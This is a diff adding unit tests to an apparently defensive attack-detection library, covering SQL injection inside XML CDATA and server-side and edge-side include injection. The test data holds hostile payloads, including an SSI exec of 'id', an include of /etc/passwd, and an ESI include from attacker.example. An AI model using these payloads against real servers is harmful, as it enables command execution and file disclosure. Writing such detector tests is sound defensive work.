@@ -41,6 +41,12 @@ describe('xxe detector', () => {
   it('inspects XML text nodes with the other detectors', () => {
     expect(detects(xml("<q><id>1' or '1'='1</id></q>"), 'sqli')).toBe(true);
   });
+  it('inspects CDATA sections as text', () => {
+    expect(detects(xml("<foo><![CDATA[' or 1=1 or ''=']]></foo>"), 'sqli')).toBe(true);
+    expect(xml('<note><![CDATA[Fish & chips <b>today</b>]]></note>').attack).toBe(false);
+    // A section with no end: nothing more to read (and no quadratic search).
+    expect(xml(`<a>${'<![CDATA[x'.repeat(5000)}</a>`).attack).toBe(false);
+  });
 });
 
 describe('jndi detector', () => {
@@ -87,6 +93,23 @@ describe('ssti detector', () => {
     'Hello {{ first_name }}, {% if vip %}thanks{% endif %}',
   ])('passes %s', (p) => {
     expect(inQuery(p).attack).toBe(false);
+  });
+});
+
+describe('ssti detector: server-side and edge-side includes', () => {
+  it('detects SSI directives and ESI tags', () => {
+    for (const p of [
+      '<!--#exec cmd="id" -->',
+      '<!--#echo var="DOCUMENT_ROOT" -->',
+      '<!--#include virtual="/etc/passwd" -->',
+      '<!--#printenv -->',
+      '<esi:include src="http://attacker.example/x"/>',
+      '<esi:debug/>',
+    ])
+      expect([p, detects(inQuery(p), 'ssti')]).toEqual([p, true]);
+  });
+  it('passes HTML comments that start with "#"', () => {
+    expect(inJson({ html: '<!-- #1 priority: fix the header -->' }).attack).toBe(false);
   });
 });
 
